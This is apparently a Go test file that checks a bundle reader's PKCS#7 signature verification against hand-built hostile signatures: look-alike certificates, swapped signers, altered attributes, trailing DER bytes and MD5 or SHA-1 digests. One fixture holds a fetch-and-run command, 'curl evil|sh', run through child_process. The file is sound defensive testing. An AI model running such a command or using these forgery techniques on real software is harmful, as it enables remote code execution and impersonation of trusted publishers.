package bundle

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	_ "crypto/md5" // the MD5 signature a hostile signer makes
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha1" // the SHA-1 signature a hostile signer makes
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/binary"
	"math/big"
	"testing"
	"time"

	"github.com/smallstep/pkcs7"
)

// party is a certificate and the key that goes with it.
type party struct {
	cert *x509.Certificate
	key  *rsa.PrivateKey
}

// newParty makes a certificate for subject with serial, issued by parent (nil: self-signed, as
// a CA so that it vouches for itself).
func newParty(t *testing.T, subject pkix.Name, serial int64, parent *party) *party {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(serial), Subject: subject,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning}}
	issuer, signKey := tmpl, key
	if parent != nil {
		issuer, signKey = parent.cert, parent.key
	} else {
		tmpl.IsCA, tmpl.BasicConstraintsValid = true, true
		tmpl.KeyUsage |= x509.KeyUsageCertSign
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, issuer, &key.PublicKey, signKey)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return &party{cert, key}
}

// signing is one PKCS#7 SignedData the way a hostile signer might build it, by hand.
type signing struct {
	over    []byte            // the bytes the message digest is taken of
	by      *party            // whose key signs
	named   *x509.Certificate // the certificate the signer info names (issuer and serial); by.cert when nil
	carried []*x509.Certificate
	hash    crypto.Hash           // SHA-256 when 0
	digest  asn1.ObjectIdentifier // the digest algorithm written; hash's when nil
	attrs   []byte                // signed attributes to sign instead of the ones written

	inSignedData, inExplicit, after []byte // bytes added inside the SignedData, inside [0], after it all
}

var hashOIDs = map[crypto.Hash]asn1.ObjectIdentifier{
	crypto.MD5:    oidDigestMD5,
	crypto.SHA1:   pkcs7.OIDDigestAlgorithmSHA1,
	crypto.SHA256: pkcs7.OIDDigestAlgorithmSHA256,
}

func tlv(class, tag int, compound bool, body ...[]byte) []byte {
	der, err := asn1.Marshal(asn1.RawValue{Class: class, Tag: tag, IsCompound: compound, Bytes: bytes.Join(body, nil)})
	if err != nil {
		panic(err)
	}
	return der
}

func seq(body ...[]byte) []byte { return tlv(asn1.ClassUniversal, asn1.TagSequence, true, body...) }
func set(body ...[]byte) []byte { return tlv(asn1.ClassUniversal, asn1.TagSet, true, body...) }

func der(v any) []byte {
	b, err := asn1.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// der builds the signature block's PKCS#7 DER.
func (s signing) der(t *testing.T) []byte {
	t.Helper()
	hash := s.hash
	if hash == 0 {
		hash = crypto.SHA256
	}
	digestOID := s.digest
	if digestOID == nil {
		digestOID = hashOIDs[hash]
	}
	named := s.named
	if named == nil {
		named = s.by.cert
	}
	h := hash.New()
	h.Write(s.over)
	attrs := set( // DER order: content type (…9.3) before message digest (…9.4)
		seq(der(pkcs7.OIDAttributeContentType), set(der(pkcs7.OIDData))),
		seq(der(pkcs7.OIDAttributeMessageDigest), set(der(h.Sum(nil)))))
	signed := attrs
	if s.attrs != nil {
		signed = s.attrs
	}
	h = hash.New()
	h.Write(signed)
	sig, err := rsa.SignPKCS1v15(rand.Reader, s.by.key, hash, h.Sum(nil))
	if err != nil {
		t.Fatal(err)
	}
	algID := func(oid asn1.ObjectIdentifier) []byte { return seq(der(oid), der(asn1.NullRawValue)) }
	signedAttrs := bytes.Clone(attrs)
	signedAttrs[0] = 0xa0 // [0] IMPLICIT
	signerInfo := seq(der(1), seq(named.RawIssuer, der(named.SerialNumber)), algID(digestOID), signedAttrs,
		algID(pkcs7.OIDEncryptionAlgorithmRSA), der(sig))
	var certs [][]byte
	for _, c := range s.carried {
		certs = append(certs, c.Raw)
	}
	sd := seq(der(1), set(algID(digestOID)), seq(der(pkcs7.OIDData)),
		tlv(asn1.ClassContextSpecific, 0, true, certs...), set(signerInfo), s.inSignedData)
	return append(seq(der(pkcs7.OIDSignedData), tlv(asn1.ClassContextSpecific, 0, true, sd, s.inExplicit)), s.after...)
}

// withSignature appends a signature block holding p7 to zip, as `mcpb sign` does.
func withSignature(zip, p7 []byte) []byte {
	out := append(bytes.Clone(zip), sigHeader...)
	out = binary.LittleEndian.AppendUint32(out, uint32(len(p7)))
	out = append(out, p7...)
	return append(out, sigFooter...)
}

func TestHostileSignatures(t *testing.T) {
	zip := handZip(t, entry{name: "manifest.json", body: okManifest}, entry{name: "server/index.js", body: "console.log(1)"})
	other := handZip(t, entry{name: "manifest.json", body: okManifest}, entry{name: "server/index.js", body: "require('child_process').exec('curl evil|sh')"})
	mallory := newParty(t, pkix.Name{CommonName: "Mallory"}, 7, nil)
	root := newParty(t, pkix.Name{CommonName: "Test Root CA"}, 1, nil)
	vendor := newParty(t, pkix.Name{CommonName: "Example Tools Ltd", Organization: []string{"Example Tools"}}, 3, root)
	defer func(old func() (*x509.CertPool, error)) { systemRoots = old }(systemRoots)
	systemRoots = func() (*x509.CertPool, error) {
		p := x509.NewCertPool()
		p.AddCert(root.cert)
		return p, nil
	}
	// forger issues certificates in the trusted root's name, with Mallory's key.
	forger := &party{cert: &x509.Certificate{RawSubject: root.cert.RawSubject, Subject: root.cert.Subject,
		PublicKey: &mallory.key.PublicKey}, key: mallory.key}
	open := func(t *testing.T, s signing) (*Bundle, error) {
		t.Helper()
		return Read(withSignature(zip, s.der(t)))
	}

	// The hand-made signatures are real ones: made right, they are accepted.
	t.Run("made right by the vendor", func(t *testing.T) {
		b, err := open(t, signing{over: zip, by: vendor, carried: []*x509.Certificate{vendor.cert}})
		if err != nil {
			t.Fatal(err)
		}
		if s := b.Signature; s.Status != Trusted || s.Signer != "Example Tools Ltd" {
			t.Fatalf("signature %+v, want trusted, by Example Tools Ltd", s)
		}
	})
	t.Run("made by the library, with a signing time", func(t *testing.T) {
		sd, err := pkcs7.NewSignedData(zip)
		if err != nil {
			t.Fatal(err)
		}
		sd.SetDigestAlgorithm(pkcs7.OIDDigestAlgorithmSHA256)
		if err := sd.AddSigner(mallory.cert, mallory.key, pkcs7.SignerInfoConfig{}); err != nil {
			t.Fatal(err)
		}
		sd.Detach()
		p7, err := sd.Finish()
		if err != nil {
			t.Fatal(err)
		}
		b, err := Read(withSignature(zip, p7))
		if err != nil {
			t.Fatal(err)
		}
		if s := b.Signature; s.Status != SelfSigned || s.Signer != "Mallory" {
			t.Fatalf("signature %+v, want self-signed by Mallory", s)
		}
	})

	t.Run("ECDSA, made by the library", func(t *testing.T) {
		key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		tmpl := &x509.Certificate{SerialNumber: big.NewInt(11), Subject: pkix.Name{CommonName: "Example Tools Ltd"},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
			KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning}}
		certDER, err := x509.CreateCertificate(rand.Reader, tmpl, root.cert, &key.PublicKey, root.key)
		if err != nil {
			t.Fatal(err)
		}
		cert, _ := x509.ParseCertificate(certDER)
		sd, err := pkcs7.NewSignedData(zip)
		if err != nil {
			t.Fatal(err)
		}
		sd.SetDigestAlgorithm(pkcs7.OIDDigestAlgorithmSHA384)
		if err := sd.AddSigner(cert, key, pkcs7.SignerInfoConfig{}); err != nil {
			t.Fatal(err)
		}
		sd.Detach()
		p7, err := sd.Finish()
		if err != nil {
			t.Fatal(err)
		}
		b, err := Read(withSignature(zip, p7))
		if err != nil {
			t.Fatal(err)
		}
		if s := b.Signature; s.Status != Trusted || s.Signer != "Example Tools Ltd" {
			t.Fatalf("signature %+v, want trusted, by Example Tools Ltd", s)
		}
		_, err = Read(withSignature(other, p7))
		mustRefuse(t, err, "does not match its contents")
	})

	t.Run("signature made over other bytes", func(t *testing.T) {
		_, err := open(t, signing{over: other, by: vendor, carried: []*x509.Certificate{vendor.cert}})
		mustRefuse(t, err, "does not match its contents")
	})
	t.Run("digest right, signature over other attributes", func(t *testing.T) {
		h := crypto.SHA256.New()
		h.Write(other)
		evil := set(seq(der(pkcs7.OIDAttributeContentType), set(der(pkcs7.OIDData))),
			seq(der(pkcs7.OIDAttributeMessageDigest), set(der(h.Sum(nil)))))
		_, err := open(t, signing{over: zip, by: vendor, carried: []*x509.Certificate{vendor.cert}, attrs: evil})
		mustRefuse(t, err, "does not match its contents")
	})
	t.Run("signer certificate swapped for another with the same subject", func(t *testing.T) {
		// Same subject, same issuer name, same serial number, another key: the signature is
		// the vendor's, the certificate carried is Mallory's look-alike.
		lookalike := newParty(t, vendor.cert.Subject, 3, forger)
		_, err := open(t, signing{over: zip, by: vendor, carried: []*x509.Certificate{lookalike.cert}})
		mustRefuse(t, err, "does not match its contents")
		// And the other way round: Mallory signs, naming and carrying the vendor's certificate.
		_, err = open(t, signing{over: zip, by: mallory, named: vendor.cert, carried: []*x509.Certificate{vendor.cert}})
		mustRefuse(t, err, "does not match its contents")
	})
	t.Run("extra certificate with a trusted-looking name", func(t *testing.T) {
		// Mallory signs and carries, before her own, the vendor's real certificate and one
		// that claims the vendor's name under the trusted root's name: the signer is Mallory.
		fake := newParty(t, pkix.Name{CommonName: "Example Tools Ltd", Organization: []string{"Example Tools"}}, 9, forger)
		b, err := open(t, signing{over: zip, by: mallory, carried: []*x509.Certificate{vendor.cert, fake.cert, root.cert, mallory.cert}})
		if err != nil {
			t.Fatal(err)
		}
		if s := b.Signature; s.Status != SelfSigned || s.Signer != "Mallory" {
			t.Fatalf("signature %+v, want self-signed by Mallory", s)
		}
		// Mallory's certificate made to look issued by the trusted root is untrusted.
		b, err = open(t, signing{over: zip, by: fake, carried: []*x509.Certificate{vendor.cert, root.cert, fake.cert}})
		if err != nil {
			t.Fatal(err)
		}
		if s := b.Signature; s.Status != Untrusted || s.Fingerprint == "" || s.Problem == "" {
			t.Fatalf("signature %+v, want untrusted", s)
		}
	})
	t.Run("trailing garbage inside the DER", func(t *testing.T) {
		good := signing{over: zip, by: vendor, carried: []*x509.Certificate{vendor.cert}}
		for name, s := range map[string]signing{
			"after the ContentInfo":     {after: []byte{0x05, 0x00}},
			"after the SignedData":      {inExplicit: []byte{0x05, 0x00}},
			"inside the SignedData":     {inSignedData: der(42)},
			"a lone zero byte after it": {after: []byte{0}},
		} {
			t.Run(name, func(t *testing.T) {
				s.over, s.by, s.carried = good.over, good.by, good.carried
				_, err := open(t, s)
				mustRefuse(t, err, "could not be read")
			})
		}
	})
	t.Run("MD5", func(t *testing.T) {
		_, err := open(t, signing{over: zip, by: vendor, carried: []*x509.Certificate{vendor.cert}, hash: crypto.MD5})
		mustRefuse(t, err, "signed with MD5, a digest that can be forged")
	})
	t.Run("SHA-1", func(t *testing.T) {
		_, err := open(t, signing{over: zip, by: vendor, carried: []*x509.Certificate{vendor.cert}, hash: crypto.SHA1})
		mustRefuse(t, err, "signed with SHA-1, a digest that can be forged")
	})
	t.Run("SHA-1, made by the library", func(t *testing.T) {
		sd, err := pkcs7.NewSignedData(zip)
		if err != nil {
			t.Fatal(err)
		}
		sd.SetDigestAlgorithm(pkcs7.OIDDigestAlgorithmSHA1)
		if err := sd.AddSigner(vendor.cert, vendor.key, pkcs7.SignerInfoConfig{}); err != nil {
			t.Fatal(err)
		}
		sd.Detach()
		p7, err := sd.Finish()
		if err != nil {
			t.Fatal(err)
		}
		_, err = Read(withSignature(zip, p7))
		mustRefuse(t, err, "signed with SHA-1, a digest that can be forged")
	})
}
